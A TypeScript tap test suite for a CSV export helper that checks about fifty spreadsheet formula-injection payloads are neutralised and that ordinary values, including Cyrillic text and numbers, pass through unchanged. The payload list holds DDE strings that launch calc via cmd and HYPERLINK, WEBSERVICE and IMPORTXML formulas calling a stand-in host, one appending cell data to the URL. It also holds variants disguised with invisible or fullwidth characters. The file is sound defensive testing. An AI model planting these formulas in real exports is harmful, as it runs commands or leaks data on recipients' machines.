import t from 'tap'
import { csvLine } from '../../src/ui/csv-file.ts'

/** What spreadsheets evaluate, and the ways in which people have hidden it. */
const FORMULAS = [
  ...[
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(A1)',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    '=WEBSERVICE("http://evil.example")',
  ],
  ...[
    '=IMPORTXML("http://evil.example","//a")',
    '=DDE("cmd","/C calc","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A1",
    "-2+3+cmd|'/C calc'!A0",
  ],
  ...[
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\0=1+1',
    '=\x001+1',
    ' =1+1',
    '  +1',
    '\u00a0=1',
    '\ufeff=1',
    '\u200b=1',
    '\u2060@A1',
    '\u200e=1',
  ],
  ...[
    '＝1+1',
    '＋1+1',
    '－1+1',
    '＠SUM(A1)',
    '−1',
    '|calc',
    '%0A=1',
    '=\n1',
    '="a"&"b"',
    '=A1;=B1',
    '"=1+1',
    ';=1+1',
    '";=1+1;"',
  ],
  ...[
    '=1+1";=2+2',
    "'=1+1",
    '=SUM(1;2)',
    '=1\r\n=2',
    'a\r\n=1+1',
    '+359888123456',
    '-5',
    '=Лист1!A1',
    '=СУМА(1;2)',
    '@',
    '=',
    '+',
    '-',
    '\t',
    '\r',
  ],
]

/** How a spreadsheet reads a line: cells in quotes, `;` between. */
function cellsOf(line: string): string[] {
  t.ok(line.endsWith('\r\n'))
  const cells: string[] = []
  for (const [, cell] of line.matchAll(/(?:^|;)"((?:[^"]|"")*)"/g)) cells.push((cell ?? '').replaceAll('""', '"'))
  return cells
}

t.test('A15 none of fifty formulas stays one, and each stays what it was', async (t) => {
  t.ok(FORMULAS.length >= 50, `${FORMULAS.length}`)
  for (const formula of FORMULAS) {
    const [before, cell, after, ...more] = cellsOf(csvLine(['преди', formula, 'след']))
    t.same([before, after, more], ['преди', 'след', []], 'no cell breaks out')
    t.notMatch(cell, /^[\s\u00a0\u200b-\u200f\u2060\ufeff]*[=+\-@＝＋－＠−|%\t\r\n\0]/, JSON.stringify(formula))
    t.equal(cell?.replace(/^'/, ''), formula.replaceAll('\0', '').replace(/^'/, ''))
  }
})

t.test('what is no formula stays as it is, numbers below zero too', async (t) => {
  t.equal(
    csvLine(['Иван „Вазов“', 'a "b"; c', null, '', 0, -5, '2026-11-24T14:30:00+02:00']),
    '"Иван „Вазов“";"a ""b""; c";"";"";"0";"-5";"2026-11-24T14:30:00+02:00"\r\n',
  )
})
